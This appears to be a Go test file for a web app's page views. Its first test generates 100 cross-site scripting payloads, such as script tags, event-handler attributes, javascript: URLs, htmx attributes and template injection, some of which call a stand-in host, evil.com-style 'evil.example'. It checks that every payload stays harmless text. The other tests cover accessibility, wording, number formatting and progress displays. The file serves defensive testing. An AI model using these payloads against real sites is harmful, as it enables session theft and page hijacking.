package views_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	xhtml "golang.org/x/net/html"

	"sheetlift/views"
)

// payloads are a hundred attempts to inject code into a page.
func payloads() []string {
	var all []string
	for _, call := range []string{"alert(1)", "fetch('//evil.example')", "import('//evil.example')", "document.body.remove()", "location='//evil.example'"} {
		for _, shape := range []string{
			"<script>%s</script>", `"><script>%s</script>`, `'><img src=x onerror="%s">`, `" autofocus onfocus="%s" x="`, `' onmouseover='%s`,
			"<svg onload=%s>", "</title><script>%s</script>", "</textarea><script>%s</script>", "<iframe srcdoc='<script>%s</script>'>", "javascript:%s",
			"</script><script>%s</script>", "<!--><script>%s</script>-->", "<math><mi xlink:href='javascript:%s'>", `"><a href="javascript:%s">x</a>`, "<style>*{background:url('javascript:%s')}</style>",
			"</template><script>%s</script>", `" hx-on:click="%s" x="`, `" hx-get="//evil.example" hx-trigger="load" x="%s`, "</hx-partial><hx-partial hx-target=body><script>%s</script>", "{{constructor.constructor('%s')()}}",
		} {
			all = append(all, fmt.Sprintf(shape, call))
		}
	}
	return all
}

// shape returns the elements of a page with the names of their attributes, without text.
func shape(t *testing.T, page string) []string {
	t.Helper()
	var out []string
	z := xhtml.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case xhtml.ErrorToken:
			return out
		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
			token := z.Token()
			entry := token.Data
			for _, a := range token.Attr {
				entry += " " + a.Key
				if (a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction") && strings.HasPrefix(strings.TrimSpace(strings.ToLower(a.Val)), "javascript:") {
					entry += "!"
				}
			}
			out = append(out, entry)
		case xhtml.EndTagToken:
			out = append(out, "/"+z.Token().Data)
		}
	}
}

func TestAHundredPayloadsStayText(t *testing.T) {
	t.Parallel()
	all := payloads()
	if len(all) != 100 {
		t.Fatalf("%d payloads, want 100", len(all))
	}
	plain := everyPage("harmless")
	shapes := map[string][]string{}
	for name, page := range plain {
		shapes[name] = shape(t, html(t, page))
	}
	for _, payload := range all {
		for name, page := range everyPage(payload) {
			if got := shape(t, html(t, page)); !slices.Equal(got, shapes[name]) {
				t.Errorf("page %q: %q changes what the page is made of", name, payload)
			}
		}
	}
}

func TestPagesKeepTheStrictPolicy(t *testing.T) {
	t.Parallel()
	for name, page := range everyPage("x") {
		doc, err := xhtml.Parse(strings.NewReader(html(t, page)))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			if n.Type != xhtml.ElementNode {
				continue
			}
			if n.Data == "style" || n.Data == "script" && attr(n, "src") == "" {
				t.Errorf("%s: <%s> inside the page", name, n.Data)
			}
			for _, a := range n.Attr {
				switch {
				case a.Key == "style", strings.HasPrefix(a.Key, "on"), strings.HasPrefix(a.Key, "hx-on"):
					t.Errorf("%s: <%s %s=…> needs what the policy forbids", name, n.Data, a.Key)
				case (a.Key == "src" || a.Key == "href" || a.Key == "action") && strings.Contains(a.Val, "//"):
					t.Errorf("%s: <%s %s=%q> reaches another host", name, n.Data, a.Key, a.Val)
				}
			}
		}
	}
}

func attr(n *xhtml.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func TestEveryControlHasAName(t *testing.T) {
	t.Parallel()
	for name, page := range everyPage("x") {
		doc, err := xhtml.Parse(strings.NewReader(html(t, page)))
		if err != nil {
			t.Fatal(err)
		}
		ids := map[string]int{}
		for n := range doc.Descendants() {
			if n.Type != xhtml.ElementNode {
				continue
			}
			if id := attr(n, "id"); id != "" {
				ids[id]++
			}
			switch n.Data {
			case "input", "select":
				if attr(n, "type") != "hidden" && attr(n, "aria-label") == "" && !inLabel(n) && !strings.Contains(html(t, page), `for="`+attr(n, "id")+`"`) {
					t.Errorf("%s: <%s name=%q> has no label", name, n.Data, attr(n, "name"))
				}
			case "button", "a":
				if attr(n, "aria-label") == "" && strings.TrimSpace(textOf(n)) == "" {
					t.Errorf("%s: a <%s> says nothing", name, n.Data)
				}
				if href := attr(n, "href"); n.Data == "a" && (href == "#" || href == "" && attr(n, "class") != "btn primary") {
					t.Errorf("%s: a link that leads nowhere: %q", name, textOf(n))
				}
			case "img":
				if !slices.ContainsFunc(n.Attr, func(a xhtml.Attribute) bool { return a.Key == "alt" }) {
					t.Errorf("%s: an <img> without alt", name)
				}
			}
		}
		for id, times := range ids {
			if times > 1 && id != "choices-hint" {
				t.Errorf("%s: id %q stands %d times", name, id, times)
			}
		}
	}
}

func inLabel(n *xhtml.Node) bool {
	for p := range n.Ancestors() {
		if p.Data == "label" {
			return true
		}
	}
	return false
}

func textOf(n *xhtml.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == xhtml.TextNode {
			b.WriteString(d.Data)
		}
		if d.Data == "img" {
			b.WriteString(attr(d, "alt"))
		}
	}
	return b.String()
}

func TestAPageHasAtMostOneFilledButtonInUse(t *testing.T) {
	t.Parallel()
	for name, page := range everyPage("x") {
		if name == "start" || name == "start, first" || name == "start, nothing" {
			continue // the second one is hidden until the first is done
		}
		doc, err := xhtml.Parse(strings.NewReader(html(t, page)))
		if err != nil {
			t.Fatal(err)
		}
		filled := 0
		for n := range doc.Descendants() {
			if n.Type == xhtml.ElementNode && slices.Contains(strings.Fields(attr(n, "class")), "primary") {
				filled++
			}
		}
		if filled > 1 {
			t.Errorf("%s has %d filled buttons", name, filled)
		}
	}
}

func TestEveryWordIsUsedAndEveryUseHasAWord(t *testing.T) {
	t.Parallel()
	var source strings.Builder
	for _, pattern := range []string{"*.templ", "format.go", "queue.go", "words.go", "../internal/web/*.go"} {
		files, err := filepath.Glob(pattern)
		if err != nil || len(files) == 0 {
			t.Fatal(pattern, err)
		}
		for _, f := range files {
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			source.Write(data)
		}
	}
	text := source.String()
	exact := regexp.MustCompile(`\b(?:T|many)\(ctx, "([a-z.0-9]+)"[,)]`)
	for _, m := range exact.FindAllStringSubmatch(text, -1) {
		if _, ok := views.English[m[1]]; !ok {
			t.Errorf("the pages say %q, which is no word", m[1])
		}
	}
	// Families of keys that are built from a status, a type or a step.
	families := []string{"keys.why.", "keys.said.", "saved.said.", "check.said.", "check.did.", "rows.said.", "said.", "book.", "status.", "step.", "type.", "columns.", "engine.", "live.pause.", "steer.priority.", "steer.keep.", "row.turn.", "row.is.", "live.rest.", "image.", "theme.", "any.", "own.", "inventory.", "receipt.", "title.", "order.", "queue.kind.", "queue.told.", "token.", "live.sort.", "log.level.", "model.thinking."}
	for key := range views.English {
		base := strings.TrimSuffix(key, ".1")
		used := strings.Contains(text, `"`+base+`"`) || slices.ContainsFunc(families, func(f string) bool { return strings.HasPrefix(key, f) })
		if !used {
			t.Errorf("nobody says %q", key)
		}
	}
	for _, key := range []string{"draft", "scheduled", "pending", "processing", "paused", "retrying", "completed", "failed", "canceled"} {
		if views.English["status."+key] == "" {
			t.Errorf("status %q has no word", key)
		}
	}
}

func TestAColumnHasRoomForItsLongestWord(t *testing.T) {
	t.Parallel()
	row := func(texts ...string) (l views.Line) {
		for _, text := range texts {
			l.Cells = append(l.Cells, views.Cell{Text: text})
		}
		return l
	}
	heads := []views.Head{{Name: "Serial_Number"}, {Name: "Remarks about the state of the thing"}, {Name: "Qty"}}
	lines := []views.Line{row("34572196026967112317", "bought in spring and never used since then", "1"), row("SN-1", "", "12")}
	// 20 digits, 16 characters of a wrapping text, at least 4, each with its padding.
	if got, want := views.Breadth(heads, lines, 44), "b520"; got != want {
		t.Errorf("three columns need %s, want %s", got, want)
	}
	if got, want := views.Widths(heads, lines), []string{"44.58%", "36.70%", "13.05%"}; !slices.Equal(got, want) {
		t.Errorf("the widths are %v, want %v", got, want)
	}
	var many []string
	for range 60 {
		many = append(many, "a text of some length")
	}
	if got, want := views.Breadth(nil, []views.Line{row(many...)}, 44), "b11000"; got != want {
		t.Errorf("sixty columns need %s, want %s", got, want)
	}
	unread := views.Line{Cells: []views.Cell{{State: "unreadable"}, {}}}
	if got, want := views.Widths(nil, []views.Line{unread}), []string{"61.87%", "32.47%"}; !slices.Equal(got, want) {
		t.Errorf("beside a blank cell the word for an unreadable one has %v, want %v", got, want)
	}
}

func TestNumbersReadWell(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	for got, want := range map[string]string{
		views.Number(ctx, 7): "7", views.Number(ctx, 1427): "1,427", views.Number(ctx, 1234567): "1,234,567", views.Number(ctx, -1000): "-1,000", views.Number(ctx, 100): "100",
		views.Took(ctx, 0): "", views.Took(ctx, 40*time.Millisecond): "0.1 s", views.Took(ctx, 900*time.Millisecond): "0.9 s", views.Took(ctx, 9960*time.Millisecond): "10 s",
		views.Took(ctx, 18*time.Second): "18 s", views.Took(ctx, 125*time.Second): "2 min 05 s", views.Took(ctx, 64*time.Minute): "1 h 04 min",
		views.Left(ctx, 20*time.Second): "less than a minute left", views.Left(ctx, 200*time.Second): "about 3 min left", views.Left(ctx, 70*time.Minute): "about 1 h 10 min left",
		views.Size(ctx, 25<<20): "25 MB", views.Size(ctx, 3<<20+200<<10): "3.2 MB", views.Size(ctx, 2048): "2 KB", views.Size(ctx, 12): "12 B",
		views.Many(ctx, "live.need", 1): "1 needs you", views.Many(ctx, "live.need", 1200): "1,200 need you",
	} {
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestTheBarIsHonest(t *testing.T) {
	t.Parallel()
	segments := views.Segments(views.Progress{Total: 4, Completed: 2, Failed: 1, Processing: 1})
	want := []views.Segment{{"completed", "0.00%", "49.82%"}, {"retrying", "50.00%", "0.00%"}, {"failed", "50.00%", "24.82%"}, {"canceled", "75.00%", "0.00%"}, {"processing", "75.00%", "25.00%"}}
	if !slices.Equal(segments, want) {
		t.Errorf("got %v, want %v", segments, want)
	}
	if got := views.LiveTitle(views.Progress{Status: "processing", Total: 1000, Completed: 999}, "B"); got != "99 % · B" {
		t.Errorf("a batch that is not over is called %q", got)
	}
}

func TestTheSentenceSaysWhatTheBarShows(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		progress views.Progress
		want     string
	}{
		{views.Progress{Status: "processing", Total: 60, Completed: 41, Failed: 2, Left: 3 * time.Minute}, "41 of 60 read, 2 need you, about 3 min left."},
		{views.Progress{Status: "processing", Total: 60}, "0 of 60 read."},
		{views.Progress{Status: "completed", Total: 3, Completed: 3, Took: 8 * time.Second}, "3 of 3 read. All read in 8.0 s."},
		{views.Progress{Status: "completed", Total: 3, Completed: 2, Failed: 1}, "2 of 3 read, 1 needs you. Ended."},
		{views.Progress{Status: "failed", Total: 3, Failed: 3}, "0 of 3 read, 3 need you. No picture could be read."},
	} {
		if got := views.Sentence(t.Context(), c.progress); got != c.want {
			t.Errorf("got %q, want %q", got, c.want)
		}
	}
}

func TestAKeyIsExplainedInOurWords(t *testing.T) {
	t.Parallel()
	page := func(class string) string {
		return html(t, views.KeysPage(views.Keys{Now: now, Keys: []views.Key{{Label: "key 1", State: "resting", Class: class, Reason: "RESOURCE_EXHAUSTED", Back: now.Add(37 * time.Second)}}}))
	}
	if got := page("rpm"); !strings.Contains(got, "Its calls for this minute are used up.") || !strings.Contains(got, `data-in="Back in {left}">Back at 09:00:37<`) || strings.Contains(got, "RESOURCE_EXHAUSTED") {
		t.Error("a limit is shown in the service's words")
	}
	if got := page("something new"); !strings.Contains(got, "RESOURCE_EXHAUSTED") {
		t.Error("what we have no words for is hidden")
	}
}

func BenchmarkFiveHundredRows(b *testing.B) {
	live := views.Live{URL: "/batches/x", Name: "November", Columns: "inventory", Progress: views.Progress{Status: "processing", Total: 500}}
	for i := range 500 {
		live.Rows = append(live.Rows, views.Row{URL: "/batches/x/images/1", Batch: "/batches/x", N: i + 1, Place: i + 1, Name: fmt.Sprintf("Hall A, shelf %d", i), Filename: "IMG_2900.jpg", Status: statuses[i%len(statuses)], Tries: []views.Try{{Status: "completed", Key: "key 2"}}, Key: "key 2", Rows: 12})
	}
	var size int
	for b.Loop() {
		var out strings.Builder
		if err := views.LivePage(live).Render(b.Context(), &out); err != nil {
			b.Fatal(err)
		}
		size = out.Len()
	}
	b.ReportMetric(float64(size), "bytes")
}

func TestTheLastErrorsOfAKeyAreSaidWithTheirCountAndTheirTime(t *testing.T) {
	t.Parallel()
	key := views.Key{Label: "key 1", State: "ready", Failures: []views.Failure{
		{Class: "bare429", Text: "Resource has been exhausted", Count: 1200, First: now.Add(-30 * time.Minute), Last: now.Add(-time.Minute)},
		{Class: "key_fixable", Text: "Enable the API.", Count: 1, Last: now.Add(-48 * time.Hour)},
	}}
	page := html(t, views.KeysPage(views.Keys{Now: now, Keys: []views.Key{key, {Label: "key 2", State: "ready"}}}))
	for _, want := range []string{
		"Last errors: 1,201", "Google asks it to slow down.", "1,200 times, from 08:30:00 to 08:59:00", "<q dir=\"auto\">Resource has been exhausted</q>",
		"Google refuses it for a setting of its project. Enable the API.", "Once: Sunday", "Last errors: none",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if strings.Contains(page, "<q>Enable") {
		t.Error("what the service said stands there twice")
	}
}

func TestTheLastMinutesOfAllKeysAreDrawnToOneScaleAndSaid(t *testing.T) {
	t.Parallel()
	busy, idle := make([]views.Tally, 60), make([]views.Tally, 60)
	busy[0], busy[59], idle[30] = views.Tally{Good: 9, Bad: 1}, views.Tally{Good: 1}, views.Tally{Good: 5}
	page := html(t, views.KeysPage(views.Keys{Now: now, Keys: []views.Key{{Label: "a", Lately: busy}, {Label: "b", Lately: idle}, {Label: "c"}}}))
	for _, want := range []string{
		`aria-label="The last 10 minutes: 10 good answers, 1 error. The last of them: 1 good answer."`, `aria-label="The last 10 minutes: no calls."`,
		`<rect class="good" x="0" y="4.0" width="3" height="27.0">`, `<rect class="other" x="0" y="1.0" width="3" height="3.0">`,
		`<rect class="good" x="120" y="16.0" width="3" height="15.0">`, `<rect class="good" x="236" y="28.0" width="3" height="3.0">`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
}
